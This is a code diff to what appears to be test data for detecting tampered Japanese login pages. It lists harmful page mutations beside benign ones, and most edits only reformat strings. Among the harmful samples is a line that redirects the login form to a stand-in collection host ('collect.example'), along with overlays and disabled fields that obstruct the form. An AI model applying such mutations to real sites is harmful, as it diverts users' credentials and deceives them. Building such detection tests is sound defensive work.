@@ -51,7 +51,7 @@ HARMFUL = [
         "part_renamed",
         {
             "caption of the ID reworded": "return recaption(w.id, '利用者番号')",
-            "caption of the password reworded": "return recaption(w.password, '暗証番号')",
+            "caption of the password reworded": "return recaption(w.password, 'パスコード')",
             "link to the reset reworded": "return reword(thing(w.reset), 'パスワードをお忘れの方')",
             "link to the reset named like the button behind it": "return reword(thing(w.reset), w.reset + '依頼')",
             "button of the login reworded": "return reword(thing(w.log_in), 'サインイン')",
@@ -168,7 +168,10 @@ HARMFUL = [
     *_harmful(
         BOTH,
         "entry_kind_changed",
-        {"ID hidden like a password": "entry(1).type = 'password'", "ID taken for a number": "entry(1).type = 'number'"},
+        {
+            "ID hidden like a password": "entry(1).type = 'password'",
+            "ID taken for a number": "entry(1).type = 'number'",
+        },
     ),
     *_harmful(REQUEST, "entry_kind_changed", {"mail address hidden like a password": "entry(2).type = 'password'"}),
     *_harmful(
@@ -219,7 +222,7 @@ HARMFUL = [
         (*BOTH, MENU),
         "part_covered",
         {
-            "message over the page": "append('<div style=\"position:fixed;inset:0;background:#fffd;z-index:99999\">"
+            "message over the page": 'append(\'<div style="position:fixed;inset:0;background:#fffd;z-index:99999">'
             "<p>アンケートにご協力ください</p><button>閉じる</button></div>')",
         },
     ),
@@ -228,7 +231,7 @@ HARMFUL = [
         "part_covered",
         {
             "dialog that must be closed": "append('<dialog id=d><p>重要なお知らせ</p><button>閉じる</button></dialog>"
-            "<script>document.getElementById(\"d\").showModal()</script>')",
+            '<script>document.getElementById("d").showModal()</script>\')',
             "field that takes no click": "entry(2).style.pointerEvents = 'none'",
         },
     ),
@@ -255,7 +258,9 @@ HARMFUL = [
     *_harmful(
         BOTH,
         "leads_elsewhere",
-        {"form that leads to another site": "form().setAttribute('action', 'https://collect.example/take')"},
+        {
+            "form that leads to another site": "if (form() === doc.body) return null; form().setAttribute('action', 'https://collect.example/take')"
+        },
     ),
     *_harmful(
         REQUEST,
@@ -268,17 +273,16 @@ HARMFUL = [
     *_harmful(
         REQUEST,
         "left_its_form",
-        {
-            "button out of its form": "if (!entry(1).closest('form')) return null;"
-            "doc.body.append(thing(w.send))"
-        },
+        {"button out of its form": "if (!entry(1).closest('form')) return null;doc.body.append(thing(w.send))"},
     ),
     *_harmful(
         TOP,
         "heading_changed",
-        {"service named otherwise": "doc.title = 'ポータル'; for (const each of all('body *')) {"
-         "if (even(each.alt).includes(even(w.heading))) each.alt = 'ポータル';"
-         "for (const text of each.childNodes) if (text.nodeType === 3) text.data = text.data.replaceAll(w.heading, '新サービス')}"},
+        {
+            "service named otherwise": "doc.title = 'ポータル'; for (const each of all('body *')) {"
+            "if (even(each.alt).includes(even(w.heading))) each.alt = 'ポータル';"
+            "for (const text of each.childNodes) if (text.nodeType === 3) text.data = text.data.replaceAll(w.heading, '新サービス')}"
+        },
     ),
 ]
 
@@ -294,12 +298,12 @@ _BENIGN = {
         "hidden layer": "append('<div hidden style=\"position:fixed;inset:0\"><button>閉じる</button></div>')",
         "counter of visitors": "append('<script>window.visits = 1</script><noscript>画像認証</noscript>')",
         "title bar": "doc.title = w.heading + ' | ' + doc.title",
-        "bar about cookies": "append('<div style=\"position:fixed;bottom:0;left:0;right:0;height:24px;background:#ddd\">"
+        "bar about cookies": 'append(\'<div style="position:fixed;bottom:0;left:0;right:0;height:24px;background:#ddd">'
         "Cookieを使用しています <button>閉じる</button></div>')",
-        "picture": "append('<img alt=\"マイナンバーカードのご案内\" src=\"data:,\" width=200 height=40>')",
+        "picture": 'append(\'<img alt="マイナンバーカードのご案内" src="data:," width=200 height=40>\')',
         "comment": "doc.body.prepend(doc.createComment(' build 4711 '))",
         "warning about time-outs": "append('<p>30分間操作がない場合、セッションが切れることがあります。</p>')",
-        "search in the head": "prepend('<form role=search action=\"/search\"><input type=search title=\"サイト内検索\">"
+        "search in the head": 'prepend(\'<form role=search action="/search"><input type=search title="サイト内検索">'
         "<button>検索</button></form>')",
         "choice of a language": "prepend('<header><select><option>日本語</option><option>English</option></select></header>')",
         "hidden entries of forms": "append('<form><input type=hidden name=a value=b></form>')",
@@ -316,7 +320,7 @@ _BENIGN = {
         "colon after a caption": "return recaption(w.id, w.id + '：')",
         "remark in a caption": "return recaption(w.id, w.id + '（半角英数字）')",
         "hidden twin of a field": "form().prepend(make(`<div style='display:none'>${w.id}<input></div>`))",
-        "help mark": "entry(1).after(make('<a href=\"#\" title=\"入力のしかた\">？</a>'))",
+        "help mark": 'entry(1).after(make(\'<a href="#" title="入力のしかた">？</a>\'))',
         "note below a field": "entry(2).after(make('<small>半角で入力してください</small>'))",
         "example in a field": "entry(1).placeholder = '例) ABCD1234'",
         "longest entry": "entry(1).setAttribute('maxlength', '20'); entry(1).setAttribute('autocomplete', 'username')",
